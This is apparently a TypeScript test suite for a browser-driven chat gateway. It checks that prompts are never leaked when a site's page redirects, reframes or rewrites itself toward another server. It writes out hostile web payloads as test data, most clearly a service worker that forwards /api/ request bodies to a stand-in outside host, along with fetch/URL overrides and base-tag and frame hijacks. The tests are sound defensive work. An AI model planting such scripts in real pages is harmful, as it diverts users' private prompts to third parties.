import type { Page } from "playwright";
import { expect, test } from "vitest";
import type { SitePage } from "../../src/simulator/site-page.ts";
import { Elsewhere, HIJACKED } from "../support/elsewhere.ts";
import { openWorld, type World, type WorldOptions } from "../support/world.ts";

const PROMPT = "a prompt that is the site's alone";
const ANSWER = `You said: ${PROMPT}`;

interface Hostile extends AsyncDisposable {
  readonly world: World;
  readonly elsewhere: Elsewhere;
}

/** One account at a site whose page is this, beside another server that takes prompts as well and has the site's key. */
async function openHostile(
  page: (elsewhere: Elsewhere) => SitePage | undefined = () => undefined,
  options: WorldOptions = {},
): Promise<Hostile> {
  await using opened = new AsyncDisposableStack();
  const elsewhere = opened.use(await Elsewhere.start());
  const settings = typeof options.settings === "object" ? options.settings : {};
  const world = opened.use(
    await openWorld({
      accounts: ["alice"],
      ...options,
      settings: (site) => {
        const first = page(elsewhere);
        if (first) site.pages.set("/zh", first);
        return { QUEUE_TIMEOUT_SECONDS: "2", ...settings };
      },
    }),
  );
  const stack = opened.move();
  return { world, elsewhere, [Symbol.asyncDispose]: () => stack.disposeAsync() };
}

async function pageOf(world: World): Promise<Page> {
  const [page] =
    (await world.gateway.browsers.supervisors[0]?.browser())?.contexts().flatMap((one) => one.pages()) ?? [];
  if (!page) throw new Error("no page is open");
  return page;
}

/** The answer, or else the error code. */
async function outcome(world: World, prompt = PROMPT): Promise<string> {
  return world.ask(prompt).catch((cause: unknown) => String((cause as { code?: unknown }).code));
}

function states(world: World): string {
  return world.gateway.pool.states.map(({ state, reason }) => `${state}: ${reason}`).join("\n");
}

/** Whatever shows that a prompt left the site: the other server's answer, and what it was sent. */
function leaks({ elsewhere }: Hostile, got: string): unknown[] {
  const asked = elsewhere.noted.filter(({ path }) => path.startsWith("/api/"));
  return [...(got.includes(HIJACKED) ? [got] : []), ...elsewhere.sent(PROMPT), ...asked];
}

function redirect({ origin }: Elsewhere): SitePage {
  return { status: 302, headers: { location: `${origin}/login?t=1` } };
}

function leaveSoon({ origin }: Elsewhere): SitePage {
  return { body: `<script>setTimeout(() => (location = "${origin}"), 50)</script>` };
}

test("a page that is redirected to another server gets no prompt, and the operator learns where it went", async () => {
  await using hostile = await openHostile(redirect, { waitUntilReady: false });
  const { world, elsewhere } = hostile;
  const got = await outcome(world);
  expect(leaks(hostile, got)).toEqual([]);
  const told = `The site's page went to ${elsewhere.origin}/login; nothing is sent there.`;
  await expect
    .poll(() => states(world))
    .toContain(`${told} If the site moved there, set GPTOMNI_ORIGIN=${elsewhere.origin}`);
  await expect.poll(() => world.logged.join("")).toContain(told);
  expect(world.logged.join("")).not.toContain("t=1");
  expect((await fetch(`${world.gateway.url}/readyz`)).status).toBe(503);
});

test("if a site moved from its bare name to www, the error names the new address", async () => {
  let moved = "";
  await using hostile = await openHostile(
    (elsewhere) => {
      moved = elsewhere.originAs("www.localhost");
      return { status: 301, headers: { location: `${moved}/zh` } };
    },
    { waitUntilReady: false },
  );
  await expect.poll(() => states(hostile.world)).toContain(`The site moved: set GPTOMNI_ORIGIN=${moved}.`);
  expect(leaks(hostile, await outcome(hostile.world))).toEqual([]);
});

/** On a busy machine a page may take longer to open than the other tests let a request wait. */
const PATIENT = { QUEUE_TIMEOUT_SECONDS: "15" };

test("a page in use that leaves the site gets no prompt, is reported with its address, and is opened again", async () => {
  await using hostile = await openHostile(undefined, { settings: PATIENT });
  const { world, elsewhere } = hostile;
  await (await pageOf(world)).evaluate(`location.href = "${elsewhere.origin}/login?t=1"`);
  await expect.poll(() => world.logged.join("")).toContain(`stands at ${elsewhere.origin}/login;`);
  const got = await outcome(world);
  expect(leaks(hostile, got)).toEqual([]);
  expect(got).toBe(ANSWER);
});

test("a page that leaves the site each time gets no prompt", async () => {
  await using hostile = await openHostile(leaveSoon, { waitUntilReady: false });
  for (let round = 0; round < 5; round += 1) expect(leaks(hostile, await outcome(hostile.world))).toEqual([]);
});

test("an account that wakes into a redirect gets no prompt there, though it was signed in a moment ago", async () => {
  await using hostile = await openHostile(undefined, { settings: { ...PATIENT, HIBERNATE_AFTER_SECONDS: "1" } });
  const { world, elsewhere } = hostile;
  expect(await outcome(world)).toBe(ANSWER);
  await expect.poll(() => world.gateway.pool.states[0]?.state).toBe("idle");
  world.simulator.pages.set("/zh", { status: 302, headers: { location: `${elsewhere.origin}/login` } });
  expect(leaks(hostile, await outcome(world))).toEqual([]);
  await expect.poll(() => states(world)).toContain(`went to ${elsewhere.origin}/login`);
  world.simulator.pages.delete("/zh");
  await expect.poll(() => outcome(world)).toBe(ANSWER);
});

/** Pages that stand at the site and point elsewhere in some way; the prompt arrives at the site. */
const POINTERS: Readonly<Record<string, (elsewhere: Elsewhere) => SitePage>> = {
  "a <base>": ({ origin }) => ({ body: `<base href="${origin}/"><p>hello` }),
  "a <base> that its script adds later": ({ origin }) => ({
    body: `<script>addEventListener("load", () => { const base = document.createElement("base"); base.href = "${origin}/"; document.head.append(base); })</script>`,
  }),
  "a frame over the whole page": ({ origin }) => ({
    body: `<iframe src="${origin}/zh" style="position:fixed;inset:0;width:100%;height:100%"></iframe>`,
  }),
  "frames from nowhere": () => ({
    body: `<iframe srcdoc="<base href='https://127.0.0.1/'>hi"></iframe><iframe sandbox="allow-scripts" src="data:text/html,hi"></iframe>`,
  }),
  "an address of its own by pushState": () => ({
    body: `<script>history.pushState({}, "", "//"); history.replaceState({}, "", "/zh/chat//127.0.0.1/?x=1#y")</script>`,
  }),
  "a document written anew": ({ origin }) => ({
    body: `<script>addEventListener("load", () => { document.open(); document.write('<base href="${origin}/">anew'); document.close(); })</script>`,
  }),
  "fetch, location and URL replaced": ({ origin }) => ({
    body: `<script>const to = "${origin}"; fetch = (url, init) => fetch.call(null, to + url, init);
      Object.defineProperty(document, "baseURI", { value: to }); Object.defineProperty(globalThis, "origin", { value: to });
      URL = function () { return { href: to, origin: to } }; Request = function () { return { url: to } }</script>`,
  }),
  "rules to load another page ahead": ({ origin }) => ({
    body: `<script type="speculationrules">{"prerender":[{"urls":["/other"]}],"prefetch":[{"urls":["${origin}/"]}]}</script>`,
  }),
};

test.each(Object.entries(POINTERS))("the prompt to a page with %s goes to the site", async (_name, page) => {
  await using hostile = await openHostile(page);
  const got = await outcome(hostile.world);
  expect(leaks(hostile, got)).toEqual([]);
  expect(got).toBe(ANSWER);
});

/** Pages that leave the site as soon as they stand there, or that are not quite the site's. */
const LEAVERS: Readonly<Record<string, (elsewhere: Elsewhere) => SitePage>> = {
  "a meta refresh": ({ origin }) => ({ body: `<meta http-equiv="refresh" content="0;url=${origin}/">` }),
  "a refresh in its head": ({ origin }) => ({ headers: { refresh: `0;url=${origin}/` }, body: "hello" }),
  "a form that sends itself": ({ origin }) => ({
    body: `<form method="post" action="${origin}/zh"></form><script>document.forms[0].submit()</script>`,
  }),
  "a frame that takes the whole window along": ({ origin }) => ({
    body: `<iframe srcdoc="<script>top.location='${origin}'</script>"></iframe>`,
  }),
  "a sandbox around itself": () => ({ headers: { "content-security-policy": "sandbox allow-scripts" }, body: "hello" }),
  "an empty page in its place": () => ({ body: `<script>location = "about:blank"</script>` }),
  "a page without an origin in its place": () => ({ body: `<script>location = "data:text/html,hi"</script>` }),
};

test.each(Object.entries(LEAVERS))("a page that leaves by %s sends prompts only to the site", async (_name, page) => {
  await using hostile = await openHostile(page, { waitUntilReady: false });
  for (let round = 0; round < 2; round += 1) {
    const got = await outcome(hostile.world);
    expect(leaks(hostile, got)).toEqual([]);
  }
});

test("a service worker that would forward prompts gets none", async () => {
  await using hostile = await openHostile();
  const { world, elsewhere } = hostile;
  const { pages } = world.simulator;
  const script = `oninstall = () => skipWaiting(); onactivate = (event) => event.waitUntil(clients.claim());
    onfetch = (event) => { const path = new URL(event.request.url).pathname;
      if (path.startsWith("/api/")) event.respondWith(event.request.text().then((body) =>
        fetch("${elsewhere.origin}" + path, { method: event.request.method, body: body || undefined, mode: "cors" }))); }`;
  pages.set("/worker.js", { headers: { "content-type": "text/javascript" }, body: script });
  const page = await pageOf(world);
  await page.evaluate(`navigator.serviceWorker.register("/worker.js").then(() => new Promise((resolve) =>
    navigator.serviceWorker.controller ? resolve() : navigator.serviceWorker.addEventListener("controllerchange", resolve)))`);
  // The page's own requests do go there, so the worker works.
  expect(await page.evaluate(`fetch("/api/own").then((response) => response.status)`)).toBe(200);
  elsewhere.noted.length = 0;
  const got = await outcome(world);
  expect(leaks(hostile, got)).toEqual([]);
  expect(got).toBe(ANSWER);
});

test("a redirect to another server in answer to a request is not followed", async () => {
  await using hostile = await openHostile();
  const { world, elsewhere } = hostile;
  world.simulator.failNext({ redirectTo: `${elsewhere.origin}/api/chatWithText` });
  const got = await outcome(world);
  expect(leaks(hostile, got)).toEqual([]);
  expect(got).toBe("site_changed");
});

test("a page that leaves at the moment of a request sends nothing elsewhere", { timeout: 90_000 }, async () => {
  await using hostile = await openHostile();
  const { world, elsewhere } = hostile;
  for (let round = 0; round < 5; round += 1) {
    await world.untilReady();
    const left = (await pageOf(world)).evaluate(`location.href = "${elsewhere.origin}/"`).catch(() => {});
    const got = await outcome(world);
    await left;
    expect(leaks(hostile, got)).toEqual([]);
  }
});
